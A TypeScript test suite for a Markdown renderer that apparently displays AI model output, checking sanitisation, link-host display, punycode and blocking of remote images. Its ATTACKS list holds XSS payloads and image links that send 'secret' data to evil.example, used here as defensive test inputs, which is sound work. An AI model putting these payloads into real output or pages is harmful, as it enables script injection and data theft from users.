/* What a model may and may not put on the screen. */
import assert from "node:assert/strict";
import { test } from "node:test";
import createDOMPurify, { type DOMPurify } from "dompurify";
import hljs from "highlight.js/lib/common";
import { JSDOM } from "jsdom";
import { highlight } from "../src/text/highlight";
import { Markdown, linkHtml, safeUrl } from "../src/text/markdown";

const { window } = new JSDOM("");

function make(): Markdown {
	const purify = createDOMPurify(
		window as unknown as Parameters<typeof createDOMPurify>[0]) as DOMPurify;
	return new Markdown(purify, highlight);
}

/* The rendered text as elements, for questions about what is really there. */
function parse(text: string): HTMLElement {
	const box = window.document.createElement("div");
	box.innerHTML = make().render(text);
	return box;
}

const ATTACKS = [
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
	"<iframe src=https://evil.example></iframe>",
	"<style>@import 'https://evil.example/x.css'</style>",
	"<form action=https://evil.example><input name=p><button>go</button></form>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](java\tscript:alert(1))",
	"[x](data:text/html;base64,PHNjcmlwdD4=)",
	"[x](vbscript:msgbox(1))",
	"[x](//evil.example/path)",
	"![x](https://evil.example/?q=secret)",
	"![x](//evil.example/?q=secret)",
	"![x](/api/auth/logout)",
	"![x](data:image/svg+xml;base64,PHN2Zy8+)",
	"![x\" onerror=\"alert(1)](https://evil.example/a.png)",
	"[a\"onmouseover=\"alert(1)](https://example.com)",
	"[x](https://example.com/\"onmouseover=\"alert(1))",
	"```\"><img src=x onerror=alert(1)>\ncode\n```",
	"```html\n<img src=x onerror=alert(1)>\n```",
	"`<img src=x onerror=alert(1)>`",
	"[ref]\n\n[ref]: javascript:alert(1)",
	"<https://example.com/<script>>",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
];

for (const attack of ATTACKS) {
	test(`stays inert: ${attack.slice(0, 50).replace(/\s/g, " ")}`, () => {
		const box = parse(attack);
		for (const el of box.querySelectorAll("*")) {
			const name = el.tagName.toLowerCase();
			assert.ok(!["script", "style", "iframe", "svg", "math", "form",
				"object", "embed", "link", "meta", "base", "img"].includes(name),
				`element ${name} in ${box.innerHTML}`);
			for (const attr of el.attributes) {
				assert.ok(!attr.name.startsWith("on"), attr.name);
				assert.ok(attr.name !== "style" && attr.name !== "srcset");
			}
		}
		for (const link of box.querySelectorAll("a")) {
			assert.match(link.getAttribute("href") ?? "", /^(https?|mailto):/);
			assert.equal(link.getAttribute("target"), "_blank");
			assert.match(link.getAttribute("rel") ?? "", /noopener/);
		}
	});
}

test("raw HTML is shown as the text it is", () => {
	const box = parse("before <b onclick=x>bold</b> after");
	assert.equal(box.textContent?.trim(), "before <b onclick=x>bold</b> after");
});

test("a link shows the host it leads to", () => {
	const box = parse("see [the manual](https://docs.example.org/a/b)");
	assert.equal(box.querySelector("a")?.textContent, "the manual");
	assert.equal(box.querySelector(".host")?.textContent, "docs.example.org");
});

test("a link whose text names another site still shows the real host", () => {
	const box = parse("[https://bank.example](https://evil.example/login)");
	assert.equal(box.querySelector(".host")?.textContent, "evil.example");
});

test("a host of look-alike letters is shown in its real form", () => {
	assert.match(linkHtml("https://аррӏе.com/", "apple", "apple"), /xn--/);
});

test("a bare address is not repeated", () => {
	const box = parse("https://example.com/page");
	assert.equal(box.querySelectorAll("a").length, 1);
	assert.equal(box.querySelector(".host"), null);
});

test("a remote image becomes a link that names its host", () => {
	const box = parse("![chart](https://evil.example/?q=secret)");
	assert.equal(box.querySelector("img"), null);
	assert.equal(box.querySelector(".blocked-image a")?.textContent, "Image: chart");
	assert.equal(box.querySelector(".host")?.textContent, "evil.example");
});

test("a small raster image inside the text is shown", () => {
	const box = parse("![dot](data:image/png;base64,iVBORw0KGgo=)");
	assert.equal(box.querySelector("img")?.getAttribute("alt"), "dot");
});

test("only http, https and mailto addresses are followed", () => {
	assert.equal(safeUrl("ftp://example.com"), null);
	assert.equal(safeUrl("/relative"), null);
	assert.equal(safeUrl("file:///etc/passwd"), null);
	assert.equal(safeUrl("https://example.com")?.host, "example.com");
	assert.equal(safeUrl("mailto:a@example.com")?.protocol, "mailto:");
});

test("task lists, tables and numbering survive the sanitiser", () => {
	const box = parse("- [x] done\n- [ ] open\n\n5. five\n6. six\n\n" +
		"| a | b |\n|:--|--:|\n| 1 | 2 |");
	assert.equal(box.querySelectorAll("input[type=checkbox]").length, 2);
	assert.equal(box.querySelectorAll("input[checked]").length, 1);
	assert.equal(box.querySelector("ol")?.getAttribute("start"), "5");
	assert.equal(box.querySelector(".table-wrap td[align=right]")?.textContent, "2");
});

test("a code block has its language, its colours and a copy button", () => {
	const box = parse("```sql\nSELECT 1;\n```");
	assert.equal(box.querySelector(".code-lang")?.textContent, "sql");
	assert.ok(box.querySelector("button[data-copy][type=button]"));
	assert.ok(box.querySelector("pre .hljs-keyword"));
	assert.equal(box.querySelector("pre")?.textContent, "SELECT 1;");
});

test("an unknown language is shown plain and whole", () => {
	assert.equal(hljs.getLanguage("klingon"), undefined);
	const box = parse("```klingon\n<qapla'> & \"x\"\n```");
	assert.equal(box.querySelector("pre")?.textContent, "<qapla'> & \"x\"");
});

test("while text streams, the finished blocks are the same objects", () => {
	const md = make();
	const first = md.blocks("# One\n\nTwo\n\nThr");
	const second = md.blocks("# One\n\nTwo\n\nThree and more", first);
	assert.equal(second[0], first[0]);
	assert.equal(second[1], first[1]);
	assert.notEqual(second[2], first[2]);
	assert.match(second[2]?.html ?? "", /Three and more/);
});

test("half a code block already looks like one", () => {
	const box = parse("text\n\n```js\nconst a = 1");
	assert.equal(box.querySelector("pre")?.textContent, "const a = 1");
});
